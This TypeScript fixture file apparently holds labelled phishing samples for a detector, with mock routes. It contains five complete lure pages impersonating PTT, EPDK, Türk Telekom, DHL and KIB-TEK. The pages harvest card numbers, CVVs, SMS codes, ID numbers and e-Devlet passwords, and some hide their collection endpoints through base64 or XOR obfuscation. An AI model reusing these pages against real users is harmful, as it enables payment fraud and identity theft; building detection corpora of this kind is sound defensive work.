import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, cardFields, cardMaskJs, doc, joinedLiteral, logo, smsPanel, textRoute } from '../parts/xb-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-ptt-adres-eksik-odeme',
    label: 'phishing',
    kind: 'parcel-fee-lure-kit',
    url: 'https://ptt-kargotakip.gonderi-adres.com/tr/RR784512369TR',
    body: doc({
      title: 'PTT Kargo Gönderi Takip',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f3f3f3}.y{background:#ffcb05;padding:12px 22px;display:flex;align-items:center;gap:16px}.y b{font-size:14px}
.c{max-width:560px;margin:22px auto;background:#fff;padding:22px;border-radius:4px}.tl{list-style:none;padding:0;border-left:3px solid #ffcb05;margin:16px 0 16px 8px}.tl li{padding:6px 14px;font-size:13px;position:relative}
.tl li:before{content:"";position:absolute;left:-8px;top:10px;width:12px;height:12px;border-radius:50%;background:#ffcb05}.tl li.x:before{background:#d00}
.warn{background:#fff4d1;border:1px solid #ffcb05;padding:12px;font-size:14px}.frm{display:none}.frm input{width:100%;box-sizing:border-box;padding:10px;margin:5px 0 10px;border:1px solid #ccc}
.b{background:#1c3f94;color:#fff;border:0;padding:12px;width:100%;font-size:15px;cursor:pointer}.half{display:inline-block;width:48%;margin-right:2%}`,
      body: `<div class="y">${logo({ name: 'PTT', color: '#1c3f94', mark: 'box' })}<b>Gönderi Takip Sistemi</b></div>
<div class="c">
<p>Gönderi No: <b>RR784512369TR</b> · Çıkış: Frankfurt (DE) → İstanbul</p>
<ul class="tl"><li>09.10.2025 11:42 — Gönderi kabul edildi</li><li>11.10.2025 06:10 — İstanbul Uluslararası Posta İşleme Merkezi</li><li class="x">13.10.2025 14:26 — <b>Teslim edilemedi: adres bilgisi eksik / hatalı</b></li></ul>
<div class="warn">Gönderiniz adres eksikliği nedeniyle dağıtım merkezinde bekletilmektedir. Adres bilgilerinizi güncelleyip <b>14,90 TL</b> yeniden dağıtım ücretini ödemediğiniz takdirde gönderi <b>48 saat</b> içinde göndericiye iade edilecektir.</div>
<button class="b" style="margin-top:14px" onclick="document.getElementById('f').style.display='block';this.style.display='none'">Adresimi Güncelle ve Öde</button>
<form class="frm" id="f">
<h3>Teslimat Bilgileri</h3><input name="ad" placeholder="Ad Soyad" required><input name="tel" placeholder="Cep Telefonu" required><input name="adres" placeholder="Açık Adres" required><input name="il" placeholder="İl / İlçe" required>
<h3>Ödeme (14,90 TL)</h3>${cardFields({ lang: 'tr', holder: false, names: { number: 'kartno', exp: 'skt', cvv: 'cvv' } })}
<button class="b" type="submit">14,90 TL Öde</button></form>
${smsPanel({ lang: 'tr', id: 'p3', phone: '05** *** ** 88', seconds: 120, bank: 'PTT Ödeme', amount: '14,90 TL', color: '#1c3f94' })}
</div>
<script>
${cardMaskJs({ field: 'kartno', fn: 'ck', exp: 'skt' })}
var api=${joinedLiteral('/tr/api/kaydet.php', 4)};
document.getElementById('f').onsubmit=function(e){e.preventDefault();if(!ck(this.kartno.value)){alert('Kart numarası geçersiz');return}
 fetch(api,{method:'POST',body:new FormData(this)});this.style.display='none';document.getElementById('p3').style.display='block'};
document.getElementById('p3-ok').onclick=function(){var d=new FormData();d.append('sms',document.getElementById('p3-code').value);fetch(api,{method:'POST',body:d}).then(function(){alert('Ödeme başarılı. Gönderiniz 1-2 iş günü içinde teslim edilecektir.');location='https://www.ptt.gov.tr'})};
</script>`,
    }),
    routes: { 'ptt-kargotakip.gonderi-adres.com/tr/api/kaydet.php': jsonRoute({ s: 1 }) },
  },
  {
    id: 'xb-epdk-elektrik-fazla-odeme-iade',
    label: 'phishing',
    kind: 'utility-refund-lure-kit',
    url: 'https://epdk-iade-basvuru.org/elektrik-iade/',
    body: doc({
      title: 'EPDK Elektrik Faturası İade Başvurusu',
      css: `body{margin:0;font-family:"Titillium Web",Arial,sans-serif;background:#f5f8fb;color:#1e2a36}.top{background:#fff;border-bottom:3px solid #00853f;padding:12px 24px;display:flex;gap:14px;align-items:center}
.hero{background:#00853f;color:#fff;padding:24px}.hero h1{margin:0;font-size:24px}.body{max-width:600px;margin:20px auto;background:#fff;border-radius:6px;padding:22px}
.st{display:none}.st.on{display:block}.body input,.body select{width:100%;box-sizing:border-box;padding:11px;border:1px solid #c5d3df;border-radius:4px;margin:4px 0 12px}.body button{background:#00853f;color:#fff;border:0;padding:12px 28px;font-size:16px;border-radius:4px}
.ok{background:#e9f7ef;border:1px solid #9ad2b1;padding:12px;border-radius:4px}.fld label{font-size:13px}.half{display:inline-block;width:48%;margin-right:2%}`,
      body: `<div class="top">${logo({ name: 'EPDK', color: '#00853f', mark: 'leaf', sub: 'Enerji Piyasası Düzenleme Kurumu' })}</div>
<div class="hero"><h1>Fazla Tahsil Edilen Elektrik Bedellerinin İadesi</h1><p style="margin:6px 0 0">2022-2024 döneminde kayıp-kaçak bedeli adı altında fazladan tahsil edilen tutarlar abonelere iade edilmektedir.</p></div>
<div class="body">
<div class="st on" id="a"><label>T.C. Kimlik No</label><input id="tc" maxlength="11"><label>Dağıtım şirketi</label><select id="ds"><option>BEDAŞ</option><option>AYEDAŞ</option><option>Başkent EDAŞ</option><option>Gediz EDAŞ</option><option>Toroslar EDAŞ</option><option>Dicle EDAŞ</option></select><label>Tesisat numarası (faturada yazar)</label><input id="ts"><button onclick="a1()">İade Tutarını Sorgula</button></div>
<div class="st" id="b"><div class="ok">İade tutarınız: <b id="it"></b></div><p>İade, e-Devlet'te kayıtlı hesabınıza aktarılır. Kimliğinizi doğrulamak için e-Devlet bilgilerinizi giriniz.</p><label>e-Devlet Şifresi</label><input id="ep" type="password"><label>Cep Telefonu</label><input id="gs"><button onclick="b1()">Devam</button></div>
<div class="st" id="c"><p>İadenin yatırılacağı banka kartı:</p><form id="cf">${cardFields({ lang: 'tr', names: { holder: 'sahip', number: 'pan', exp: 'exp', cvv: 'cvv' } })}<button>İadeyi Başlat</button></form></div>
<div class="st" id="d"><h3>Başvurunuz alındı</h3><p>Başvuru numaranız: EPDK-2025-<span id="bn"></span>. İade 5 iş günü içinde yapılacaktır.</p></div>
</div>
<script>
var _e=atob('${b64('https://epdk-iade-basvuru.org/elektrik-iade/kayit.php')}');
function go(x){document.querySelectorAll('.st').forEach(function(s){s.classList.remove('on')});document.getElementById(x).classList.add('on')}
function sv(o){return fetch(_e,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).catch(function(){})}
function a1(){var t=document.getElementById('tc').value;if(t.length!==11)return alert('Geçersiz T.C. Kimlik No');sv({tc:t,ds:document.getElementById('ds').value,ts:document.getElementById('ts').value});document.getElementById('it').textContent=(850+(+t.slice(-3))).toLocaleString('tr-TR')+',40 TL';go('b')}
function b1(){sv({ep:document.getElementById('ep').value,gs:document.getElementById('gs').value});go('c')}
document.getElementById('cf').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});sv(o);document.getElementById('bn').textContent=Math.floor(Math.random()*899999+100000);go('d')};
</script>`,
    }),
    routes: { 'epdk-iade-basvuru.org/elektrik-iade/kayit.php': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'xb-turktelekom-fatura-fazla-tahsilat',
    label: 'phishing',
    kind: 'telco-refund-lure-kit',
    url: 'https://turktelekom-iade.online/online-islemler/fatura-iade',
    body: doc({
      title: 'Türk Telekom Online İşlemler - Fatura İadesi',
      css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f2f4f8}.bar{background:#00c7fd;background:linear-gradient(90deg,#0a2b6d,#1356c5);padding:14px 24px}.card{max-width:520px;margin:28px auto;background:#fff;border-radius:12px;padding:24px}
.amt{font-size:32px;color:#1356c5;font-weight:800}.card .fld input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #d0d7e2;border-radius:6px;margin:4px 0 12px}.fld label{font-size:12px;color:#556}
.half{display:inline-block;width:48%;margin-right:2%}.btn{width:100%;background:#1356c5;color:#fff;border:0;border-radius:6px;padding:13px;font-size:16px}`,
      body: `<div class="bar">${logo({ name: 'türk telekom', color: '#ffffff', mark: 'ring' })}</div>
<div class="card"><p>Sayın abonemiz,</p><p>BTK denetimi sonucunda Eylül 2025 faturanızda mükerrer tahsilat tespit edilmiştir. Fazladan ödediğiniz tutar aşağıdadır:</p><div class="amt">289,40 TL</div>
<p style="font-size:13px;color:#666">İade, faturanızı ödediğiniz banka kartına yapılacaktır. Lütfen kart bilgilerinizi doğrulayınız.</p>
<form id="tt"><div class="fld"><label>Hizmet / Telefon Numarası</label><input name="hizmet" required></div>${cardFields({ lang: 'tr', names: { holder: 'ad', number: 'kart', exp: 'skt', cvv: 'cvv' } })}<button class="btn">İadeyi Al</button></form></div>
<script>
(function(){var a=[${Array.from('/online-islemler/iade.php', (c) => c.charCodeAt(0) ^ 23).join(',')}],p='';for(var i=0;i<a.length;i++)p+=String.fromCharCode(a[i]^23);
document.getElementById('tt').addEventListener('submit',function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST',p);x.onload=function(){location.href='/online-islemler/sms-onay'};x.send(new FormData(this))})})();
</script>`,
    }),
    routes: {
      'turktelekom-iade.online/online-islemler/iade.php': textRoute('OK'),
      'turktelekom-iade.online/online-islemler/sms-onay': htmlRoute(doc({
        title: 'Güvenlik Doğrulaması',
        body: `${smsPanel({ lang: 'tr', id: 'tk', phone: '05** *** ** 71', seconds: 160, bank: 'Türk Telekom Ödeme', amount: '289,40 TL İADE', color: '#1356c5' })}<script>document.getElementById('tk').style.display='block';document.getElementById('tk-ok').onclick=function(){var x=new XMLHttpRequest();x.open('POST','/online-islemler/iade.php');x.send('otp='+document.getElementById('tk-code').value);alert('İşleminiz onaylandı.')}</script>`,
      })),
    },
  },
  {
    id: 'xb-dhl-zollgebuehr-tuerkei-paket',
    label: 'phishing',
    kind: 'parcel-customs-lure-de',
    url: 'https://dhl-zoll-paket.de-sendung.info/sendung/JJD0004512877',
    body: doc({
      title: 'DHL Sendungsverfolgung – Zollgebühr offen',
      lang: 'de',
      css: `body{margin:0;font-family:"Delivery",Frutiger,Arial,sans-serif;background:#f2f2f2}.y{background:#ffcc00;height:62px;display:flex;align-items:center;padding:0 24px}.m{max-width:640px;margin:26px auto;background:#fff;padding:24px}
.bar{height:8px;background:#eee;border-radius:4px;overflow:hidden;margin:12px 0}.bar i{display:block;height:100%;width:72%;background:#d40511}.m h2{color:#d40511;font-size:20px}
.fld label{font-size:12px;color:#555;display:block}.fld input,.fld select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bbb;margin:3px 0 10px}.half{display:inline-block;width:48%;margin-right:2%}
.r{background:#d40511;color:#fff;border:0;padding:12px 22px;font-weight:bold;font-size:15px}`,
      body: `<div class="y">${logo({ name: 'DHL', color: '#d40511', mark: 'bars' })}</div>
<div class="m"><p style="color:#666;margin:0">Sendungsnummer <b>JJD0004512877</b> · Absender: Istanbul (TR)</p><div class="bar"><i></i></div>
<h2>Ihre Sendung wird beim Zoll zurückgehalten</h2><p>Für Ihre Sendung aus der Türkei ist eine Einfuhrumsatzsteuer bzw. Zollgebühr in Höhe von <b>2,99 €</b> angefallen. Bitte begleichen Sie den Betrag innerhalb von 3 Tagen, andernfalls wird die Sendung an den Absender zurückgeschickt.</p>
<form id="dh"><div class="fld"><label>Vor- und Nachname</label><input name="name" required></div><div class="fld"><label>Straße, Hausnummer, PLZ, Ort</label><input name="addr" required></div><div class="fld"><label>Geburtsdatum</label><input name="dob" placeholder="TT.MM.JJJJ"></div>
${cardFields({ lang: 'de', holder: false, names: { number: 'cc', exp: 'ablauf', cvv: 'cvc' } })}<button class="r">2,99 € jetzt bezahlen</button></form></div>
<script>
document.getElementById('dh').onsubmit=function(e){e.preventDefault();var q=new URLSearchParams(new FormData(this));q.append('lang','de');q.append('tz',Intl.DateTimeFormat().resolvedOptions().timeZone);
 fetch('/sendung/api/collect',{method:'POST',body:q}).then(function(){location.href='/sendung/verify?id=JJD0004512877'})};
</script>`,
    }),
    routes: {
      'dhl-zoll-paket.de-sendung.info/sendung/api/collect': jsonRoute({ ok: true }),
      'dhl-zoll-paket.de-sendung.info/sendung/verify': htmlRoute(doc({
        title: 'Verified by Visa',
        lang: 'de',
        body: `${smsPanel({ lang: 'de', id: 'dv', phone: '+49 1** **** 4410', seconds: 300, bank: 'Ihre Bank', amount: '2,99 €', color: '#d40511' })}<script>document.getElementById('dv').style.display='block';document.getElementById('dv-ok').onclick=function(){fetch('/sendung/api/collect',{method:'POST',body:'otp='+document.getElementById('dv-code').value}).then(function(){location='https://www.dhl.de/'})}</script>`,
      })),
    },
  },
  {
    id: 'xb-kibtek-elektrik-iade-kktc',
    label: 'phishing',
    kind: 'utility-refund-lure-kktc',
    url: 'https://kibtek-iade-kktc.com/abone/iade',
    body: doc({
      title: 'KIB-TEK | Abone Fazla Tahsilat İadesi',
      css: `body{margin:0;font-family:Tahoma,Arial,sans-serif;background:#fff}.t{background:#e2231a;color:#fff;padding:14px 22px;display:flex;align-items:center;gap:14px}.t small{opacity:.85}
.g{max-width:880px;margin:20px auto;display:grid;grid-template-columns:1fr 360px;gap:20px;padding:0 14px}.g article{font-size:14px;line-height:1.6}.f{border:1px solid #ddd;padding:18px;border-radius:4px}
.f input{width:100%;box-sizing:border-box;padding:9px;margin:3px 0 10px;border:1px solid #bbb}.f button{width:100%;padding:11px;background:#e2231a;color:#fff;border:0}`,
      body: `<div class="t">${logo({ name: 'KIB-TEK', color: '#ffffff', mark: 'bars' })}<small>Kıbrıs Türk Elektrik Kurumu</small></div>
<div class="g"><article><h2>Fazla Tahsil Edilen Elektrik Bedelleri İade Ediliyor</h2><p>Bakanlar Kurulu kararı ile 2024 yılı içerisinde uygulanan yakıt fiyat ayarlaması nedeniyle fazla tahsil edilen bedeller abonelerimize iade edilecektir. Ortalama iade tutarı <b>1.150 TL</b>'dir.</p>
<p>İade işlemleri yalnızca çevrimiçi başvuru ile yapılmaktadır. Başvurular <b>20 Ekim 2025</b> tarihinde sona erecektir.</p><p style="color:#888;font-size:12px">Lefkoşa, 10.10.2025</p></article>
<form class="f" id="kb" method="post" action="/abone/iade-kayit.php"><h3 style="margin-top:0">Online Başvuru</h3><input name="abone" placeholder="Abone Numarası" required><input name="kimlik" placeholder="Kimlik Kartı No" required><input name="ad" placeholder="Ad Soyad" required><input name="tel" placeholder="Telefon (+90 533...)" required>
<input name="kart" placeholder="İadenin yapılacağı kart no" required><input name="skt" placeholder="AA/YY" required><input name="cvv" placeholder="CVV" required><button>Başvur</button></form></div>`,
    }),
    routes: { 'kibtek-iade-kktc.com/abone/iade-kayit.php': redirectRoute(302, 'https://kibtek-iade-kktc.com/abone/iade?ok=1') },
  },
];
